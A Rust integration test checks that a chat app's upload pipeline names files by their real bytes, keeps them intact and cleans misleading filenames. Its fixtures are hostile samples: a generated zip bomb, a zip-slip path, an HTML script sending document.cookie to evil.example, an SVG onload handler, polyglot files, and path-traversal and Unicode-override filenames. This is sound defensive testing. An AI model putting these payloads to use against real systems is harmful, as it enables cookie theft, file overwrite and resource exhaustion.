//! Files that are not what they say: through both doors each is kept as it came, named for what it is by its bytes, under a
//! name that misleads nobody.

#![cfg_attr(test, expect(clippy::unwrap_used, clippy::panic, reason = "tests"))]

use app::desk::DeskReport;
use app::reports::What;
use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};
use sha2::{Digest, Sha256};
use std::io::Write;
use tests::town::{Town, eventually, fetched};
use tests::{Engine, Talk};

/// A file as a device names it, and what the desk reads of it.
struct Bad {
    name: &'static str,
    mime: &'static str,
    bytes: Vec<u8>,
    found: &'static str,
    cleaned: Option<&'static str>,
}

fn bad(
    name: &'static str,
    mime: &'static str,
    bytes: &[u8],
    found: &'static str,
    cleaned: impl Into<Option<&'static str>>,
) -> Bad {
    Bad { name, mime, bytes: bytes.to_vec(), found, cleaned: cleaned.into() }
}

/// An archive of a mebibyte with one file of a gibibyte in it, all zeros: what a mebibyte is packed into, again and again.
fn bomb() -> Vec<u8> {
    let zeros = vec![0_u8; 1 << 20];
    let (mut packer, mut one, mut sum) = (DeflateEncoder::new(Vec::new(), Compression::best()), Crc::new(), Crc::new());
    packer.write_all(&zeros).unwrap();
    packer.flush().unwrap();
    one.update(&zeros);
    for _ in 0..1_024 {
        sum.combine(&one);
    }
    let packed = [&packer.get_ref().repeat(1_024)[..], b"\x03\0"].concat();
    let packed_size = u32::try_from(packed.len()).unwrap();
    assert!(packed_size < 2 << 20, "{packed_size}");
    let name = b"zeros";
    // what both heads of the file say: version, deflated, no time, sum, sizes, length of the name
    let says = [
        &b"\x14\0\0\0\x08\0\0\0\0\0"[..],
        &sum.sum().to_le_bytes(),
        &packed_size.to_le_bytes(),
        &(1u32 << 30).to_le_bytes(),
        b"\x05\0\0\0",
    ]
    .concat();
    let file = [b"PK\x03\x04", &says[..], name, &packed].concat();
    let list = [b"PK\x01\x02\x14\0", &says[..], &[0; 14], name].concat();
    let [list_size, list_at] = [list.len(), file.len()].map(|n| u32::try_from(n).unwrap().to_le_bytes());
    let end = [b"PK\x05\x06\0\0\0\0\x01\0\x01\0", &list_size[..], &list_at, &[0; 2]].concat();
    [file, list, end].concat()
}

fn all() -> Vec<Bad> {
    let zip = [b"PK\x03\x04", &[0; 26][..], b"../../run.sh"].concat();
    let page = b"<!DOCTYPE html><script>fetch('//evil.example/' + document.cookie)</script>";
    let drawing = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>";
    // a picture with an archive behind it, a page within a picture's comment, a picture that ends after its head
    let two_faces = [b"\x89PNG\r\n\x1A\n\0\0\0\x0DIHDR".as_slice(), &zip].concat();
    let comment = [b"\xFF\xD8\xFF\xFE\x00\x40", &page[..40], b"\xFF\xD9"].concat();
    vec![
        bad("archive.zip", "application/zip", &zip, "zip", "archive.zip"),
        bad("photo.jpg", "image/jpeg", &zip, "zip", "photo.jpg"),
        bad("holiday.png", "image/png", &bomb(), "zip", "holiday.png"),
        bad("drawing.svg", "image/svg+xml", drawing, "svg", "drawing.svg"),
        bad("photo.jpeg", "image/jpeg", page, "html", "photo.jpeg"),
        bad("two-faces.png", "image/png", &two_faces, "png", "two-faces.png"),
        bad("comment.html", "text/html", &comment, "jpeg", "comment.html"),
        bad("program.pdf", "application/pdf", b"MZ\x90\x00\x03\x00\x00\x00\xFF\xFF", "unknown", "program.pdf"),
        bad("../../../etc/passwd", "text/plain", b"a list", "text", "passwd"),
        bad("C:\\Users\\Maria\\Desktop\\contract.docx", "image/png", b"a list", "text", "contract.docx"),
        bad("invoice\u{202E}fdp.exe", "application/pdf", b"%PDF-1.7 ", "pdf", "invoicefdp.exe"),
        bad("a\u{7}b\u{200B}c.txt", "text/plain", b"a list", "text", "abc.txt"),
        bad("a\u{200B}b\u{2066}c.txt", "text/plain", b"a list", "text", "abc.txt"),
        bad("..", "text/plain", b"a list", "text", None),
    ]
}

/// Through the form of a page, as a browser without JavaScript sends it; gives the status.
async fn uploads(talk: &Talk, file: &Bad) -> u16 {
    let Talk::Web { http, base, bot, cookie, .. } = talk else { panic!("on the web") };
    let name = file.name.replace('\\', "\\\\");
    let head = format!(
        "--XX\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: {}\r\n\r\n",
        file.mime
    );
    let body = [head.as_bytes(), &file.bytes, b"\r\n--XX--\r\n"].concat();
    let form = http.post(format!("{base}/chat/{bot}/file?l=uk")).header("origin", base.as_str());
    let form = form.header("cookie", cookie.clone().unwrap());
    let answer = form.header("content-type", "multipart/form-data; boundary=XX").body(body).send().await.unwrap();
    answer.status().as_u16()
}

/// What the desk reads of each file, in their order: its name, what it is, its hash.
fn read(report: &DeskReport) -> Vec<(Option<String>, String, String)> {
    let names = report.written.iter().filter_map(|w| match &w.said.what {
        What::File(file) => Some((w.id, file.name.clone())),
        _ => None,
    });
    let found = |item: domain::ItemId| {
        let of = sealing::to_hex(item.as_bytes());
        report.written.iter().find_map(|w| match &w.said.what {
            What::Fetched { of: other, found, sha256, not_kept: None, .. } if *other == of => {
                Some((found.clone().unwrap(), sha256.clone().unwrap()))
            }
            _ => None,
        })
    };
    names.filter_map(|(item, name)| found(item).map(|(found, sha256)| (name, found, sha256))).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_is_named_for_its_bytes_and_kept_as_it_came_whatever_it_is_called() {
    let town = Town::new(Engine::Sqlite, "ngo").await;
    for (n, door) in [(1, "bot"), (2, "web")] {
        let mut talk = town.talk(door, 1_800 + n);
        town.tells(&mut talk, "ось файли").await;
        let mut sent = 0;
        for file in all() {
            sent += 1;
            match &talk {
                Talk::Bot { person, .. } => drop(person.sends_document_of(file.name, file.mime, file.bytes.clone())),
                // no browser sends such a name as it is, and the form is not read
                web if file.name.contains(char::is_control) => {
                    assert_eq!(uploads(web, &file).await, 400, "{:?}", file.name);
                    sent -= 1;
                    continue;
                }
                web => assert_eq!(uploads(web, &file).await, 303, "{:?}", file.name),
            }
            let came = || async {
                let (id, report) = town.report(0).await;
                let files = read(&report);
                (files.len() == sent).then_some((id, report, files))
            };
            let (id, report, files) = eventually("the file at the desk", came).await;
            let sha256 = sealing::to_hex(&Sha256::digest(&file.bytes));
            let want = (file.cleaned.map(str::to_owned), file.found.to_owned(), sha256);
            assert_eq!(files.last(), Some(&want), "{door}: {:?}", file.name);
            let kept = fetched(&report).pop().unwrap();
            assert_eq!(town.bytes(id, &kept).await, file.bytes, "{door}: {:?}", file.name);
        }
    }
    town.node.stop().await;
}
